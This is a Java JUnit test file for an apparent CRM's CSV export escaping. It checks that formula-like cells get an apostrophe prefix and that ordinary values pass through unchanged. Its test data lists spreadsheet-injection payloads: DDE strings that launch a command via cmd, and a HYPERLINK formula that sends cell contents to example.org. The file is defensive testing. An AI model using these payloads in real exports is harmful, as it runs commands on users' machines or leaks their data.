package org.tandemcrm.listing;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.tandemcrm.shared.Money;

class CsvCellTests {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "-1+1",
                "+1+1",
                "@A3",
                "%1",
                "|1+1",
                "=1|2",
                "=cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org?leak=\"&A1&A2,\"click\")",
                "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "＝1+1",
                "\uFEFF=1+1",
                "-",
                "+cmd\n=1"
            })
    void whatASpreadsheetWouldRunGetsAnApostrophe(String cell) {
        assertThat(CsvCell.text(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "1+2",
                "1",
                "Foo",
                "1.3",
                "1,2",
                "-1.3",
                "-1,2",
                "Foo Bar",
                "1-2",
                "1=3",
                "foo@example.org",
                "19.00 %",
                "Test | Foo",
                "",
                "+49 40 123456",
                "O'Brien",
                "a\n=b",
                "日本語"
            })
    void everythingElseIsWrittenAsItIs(String cell) {
        assertThat(CsvCell.text(cell)).isEqualTo(cell);
    }

    @Test
    void valuesOfOurOwnAreWrittenPlain() {
        assertThat(CsvCell.text(null)).isEmpty();
        assertThat(CsvCell.text(true)).isEqualTo("true");
        assertThat(CsvCell.text(-5)).isEqualTo("-5");
        assertThat(CsvCell.text(new BigDecimal("-1E+3"))).isEqualTo("-1000");
        assertThat(CsvCell.text(Money.of("-12.50", "EUR"))).isEqualTo("-12.50");
        assertThat(CsvCell.text(List.of("=a", "b"))).isEqualTo("'=a; b");
    }
}
